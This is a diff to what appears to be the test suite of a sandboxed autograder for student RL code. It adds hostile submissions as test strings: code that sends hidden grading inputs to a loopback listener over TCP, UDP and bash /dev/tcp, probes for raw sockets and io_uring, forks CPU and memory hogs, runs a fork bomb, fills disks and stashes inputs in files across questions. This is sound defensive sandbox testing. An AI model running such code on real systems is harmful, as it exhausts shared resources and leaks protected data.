@@ -12,7 +12,10 @@ time (``THIEF``, graded beside a victim by ``grade-all --jobs 2``); outliving
 the grading (a zombie group leader with live threads, files left in /tmp);
 the protocol (forged, oversized or deeply nested replies; a worker that stops
 reading); intake (``HOSTILE_ZIPS``: broken zips); identity (``DECLARED_ID``: a
-classmate's ``STUDENT_ID``).
+classmate's ``STUDENT_ID``). Round 3: the network (``NETWORK``: inputs sent to
+a listener on the loopback), limits over the whole tree (``TREE``: CPU and
+memory multiplied by forks and threads, a fork bomb, memory in memfds, a full
+disk, a file left for the next question).
 """
 from __future__ import annotations
 
@@ -152,13 +155,13 @@ HOSTILE = [
             "    CALLS[0] += 1\n"
             "    r = np.asarray(r, dtype=float)\n"
             "    return np.zeros_like(r) if CALLS[0] < 150 else np.full_like(r, 1.7e308)\n",
-            "training at K", questions=("q6_k_sweep",)),
+            "the training runs complete", questions=("q6_k_sweep",)),
     Hostile("huge_weights_first_update", BLANK +
             "def group_standardised_weight(r):\n"
             "    return np.full_like(np.asarray(r, dtype=float), 1e300)\n"
             "def clipped_surrogate_grad(theta, ys, w, logp_old, eps):\n"
             "    return np.zeros_like(np.asarray(theta, dtype=float))\n",
-            "training at K", questions=("q7_clipped_sweep",)),
+            "the training runs complete", questions=("q7_clipped_sweep",)),
     # --- outliving the grading
     Hostile("zombie_leader_with_live_thread", BLANK +
             "import ctypes, os, platform, threading, time\n"
@@ -333,3 +336,148 @@ HOSTILE_ZIPS = {
                         "more than once"),
     "truncated_archive": (lambda: _zip_bytes([("grpo.py", BLANK)])[:-30], "could not be read"),
 }
+
+
+# ============================================================== round 3: network, tree, files
+def _exfiltrating(send: str, setup: str = "") -> str:
+    """BLANK whose functions first send their inputs (every float at 17
+    significant digits) through ``send`` (the body of ``_send(data: bytes)``),
+    swallowing every error, then answer zeros."""
+    return (BLANK + "import json, os, socket, subprocess, sys\n" + setup +
+            "def _send(data):\n" + "".join(f"    {line}\n" for line in send.splitlines()) +
+            "def _leak(r):\n"
+            "    try:\n"
+            "        _send(json.dumps(np.asarray(r, dtype=float).tolist()).encode())\n"
+            "    except Exception:\n"
+            "        pass\n"
+            "def centred_weight(r):\n    _leak(r)\n    return np.zeros_like(np.asarray(r, dtype=float))\n"
+            "def group_standardised_weight(r):\n    _leak(r)\n"
+            "    return np.zeros_like(np.asarray(r, dtype=float))\n")
+
+
+# Each sends every input it is given (public and hidden) to a listener of the test on the
+# loopback (``{port}``: TCP on 127.0.0.1 and ::1, ``{udp}``: UDP on 127.0.0.1), which must
+# receive nothing: in a network namespace the loopback is down, and everywhere the worker's
+# seccomp filter refuses every socket but AF_UNIX (io_uring too).
+NETWORK = [
+    Hostile("net_tcp_to_loopback", _exfiltrating(
+        "s = socket.create_connection(('127.0.0.1', {port}), timeout=1)\ns.sendall(data)"), ""),
+    Hostile("net_tcp6_to_loopback", _exfiltrating(
+        "s = socket.create_connection(('::1', {port}), timeout=1)\ns.sendall(data)"), ""),
+    Hostile("net_udp_to_loopback", _exfiltrating(
+        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(data, ('127.0.0.1', {udp}))"),
+        ""),
+    Hostile("net_shell_dev_tcp", _exfiltrating(      # an exec'd child inherits the filter
+        "subprocess.run(['/bin/bash', '-c', 'printf %s \"$0\" > /dev/tcp/127.0.0.1/{port}',\n"
+        "                data.decode()[:4000]], timeout=3, capture_output=True)"), ""),
+    Hostile("net_raw_netlink_and_io_uring", _exfiltrating(
+        "for fam, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_NETLINK, socket.SOCK_RAW),\n"
+        "                  (socket.AF_INET, socket.SOCK_RAW)):\n"
+        "    try:\n"
+        "        socket.socket(fam, kind)\n"
+        "        raise RuntimeError('SOCKET ' + f'OPEN {fam}')\n"
+        "    except PermissionError:\n"
+        "        pass\n"
+        "import ctypes\n"
+        "params = ctypes.create_string_buffer(120)\n"
+        "libc = ctypes.CDLL(None, use_errno=True)\n"
+        "fd = libc.syscall(425, 8, params)        # io_uring_setup: IORING_OP_SOCKET needs it\n"
+        "raise RuntimeError('io_uring ' + 'OPEN' if fd >= 0 else\n"
+        "                   f'io_uring refused (errno {ctypes.get_errno()})')",
+        ).replace("    except Exception:\n        pass\n", "    except PermissionError:\n"
+                  "        pass\n"), "io_uring refused (errno 1)"),
+    Hostile("net_sees_interfaces", BLANK +          # with namespaces: a lone loopback, down
+            "def centred_weight(r):\n"
+            "    raise RuntimeError('NETDEV ' + open('/proc/net/dev').read())\n", "NETDEV"),
+]
+
+# Limits on the whole tree: a question's CPU budget, the memory limit, the process cap and
+# the file quota hold over every process and thread the worker starts (RLIMIT_CPU and
+# RLIMIT_AS restart in every child). Graded on q1_centred (CPU budget 5 s).
+_SPIN = "    while True:\n        pass\n"
+TREE = [
+    Hostile("fork_cpu_multiplier", BLANK + "import os\n"
+            "def centred_weight(r):\n"
+            "    for _ in range(4):\n"
+            "        if os.fork() == 0:\n" + "    " * 2 + _SPIN.replace("\n    ", "\n" + "    " * 3) +
+            _SPIN, "CPU budget", questions=("q1_centred",)),
+    Hostile("threads_in_children_cpu", BLANK + "import os, threading\n"
+            "def _burn():\n"
+            "    a = np.random.default_rng(0).random((300, 300))\n"
+            "    while True:\n"
+            "        a = np.tanh(a @ a)            # numpy releases the GIL: threads run at once\n"
+            "def centred_weight(r):\n"
+            "    for _ in range(2):\n"
+            "        if os.fork() == 0:\n"
+            "            for _ in range(3):\n"
+            "                threading.Thread(target=_burn, daemon=True).start()\n"
+            "            _burn()\n"
+            "    _burn()\n", "CPU budget", questions=("q1_centred",)),
+    Hostile("fork_memory_multiplier", BLANK + "import os, time\n"
+            "def centred_weight(r):\n"
+            "    for _ in range(3):\n"
+            "        if os.fork() == 0:\n"
+            "            a = np.ones(900 * 2**20 // 8)    # under the 1 GB address space each\n"
+            "            time.sleep(60)\n"
+            "            os._exit(0)\n"
+            "    time.sleep(60)\n", "memory limit", questions=("q1_centred",)),
+    Hostile("memfd_memory", BLANK + "import os, time\n"
+            "def centred_weight(r):\n"
+            "    held, block = [], b'x' * 2**20\n"
+            "    for i in range(40):                    # 40 x 60 MB: in no file system, no RSS\n"
+            "        fd = os.memfd_create(f'm{i}')\n"
+            "        for _ in range(60):\n"
+            "            os.write(fd, block)\n"
+            "        held.append(fd)\n"
+            "    time.sleep(60)\n", "memory limit", questions=("q1_centred",)),
+    Hostile("fork_bomb", BLANK + "import os, time\n"
+            "def centred_weight(r):\n"
+            "    for _ in range(10000):\n"
+            "        try:\n"
+            "            os.fork()\n"
+            "        except OSError:\n"
+            "            break\n"
+            "    time.sleep(2)\n"
+            "    return np.zeros_like(np.asarray(r, dtype=float))\n", "", questions=("q1_centred",)),
+    Hostile("fills_disk", BLANK + "import os\n"
+            "def centred_weight(r):\n"
+            "    block, n = b'x' * 2**20, 0\n"
+            "    for d in ('/dev/shm', '/tmp', '/var/tmp', '/run/lock', os.environ['HOME']):\n"
+            "        for i in range(1000):              # 64 MB files (the largest allowed)\n"
+            "            try:\n"
+            "                with open(f'{d}/rlcap-fill-{i}', 'wb') as f:\n"
+            "                    for _ in range(64):\n"
+            "                        f.write(block)\n"
+            "                n += 64\n"
+            "            except OSError:\n"
+            "                break\n"
+            "    raise RuntimeError(f'wrote {n} MB')\n", "", questions=("q1_centred",),
+            leaves=tuple(f"{d}/rlcap-fill-0" for d in ("/dev/shm", "/tmp", "/var/tmp",
+                                                        "/run/lock"))),
+    # q1's hidden inputs written to every writable place, read back in q2's public phase (a
+    # later worker) and shown there: each worker's files are swept before the next starts.
+    Hostile("cross_question_file", BLANK + "import glob, json, os\n"
+            "PLACES = ['/tmp', '/var/tmp', '/dev/shm', '/run/lock', os.environ['HOME'], '.']\n"
+            "_found = []\n"
+            "for d in PLACES:\n"
+            "    for f in glob.glob(d + '/rlcap-xq-*'):\n"
+            "        try:\n"
+            "            _found.append(open(f).read())\n"
+            "        except OSError:\n"
+            "            pass\n"
+            "def _stash(r):\n"
+            "    text = json.dumps(np.asarray(r, dtype=float).tolist())\n"
+            "    for d in PLACES:\n"
+            "        try:\n"
+            "            open(f'{d}/rlcap-xq-{os.getpid()}-{len(text)}', 'w').write(text)\n"
+            "        except OSError:\n"
+            "            pass\n"
+            "def centred_weight(r):\n"
+            "    _stash(r)\n"
+            "    return np.zeros_like(np.asarray(r, dtype=float))\n"
+            "def group_standardised_weight(r):\n"
+            "    if _found:\n"
+            "        raise RuntimeError('FOUND ' + ' | '.join(_found))\n"
+            "    _stash(r)\n"
+            "    return np.zeros_like(np.asarray(r, dtype=float))\n", ""),
+]
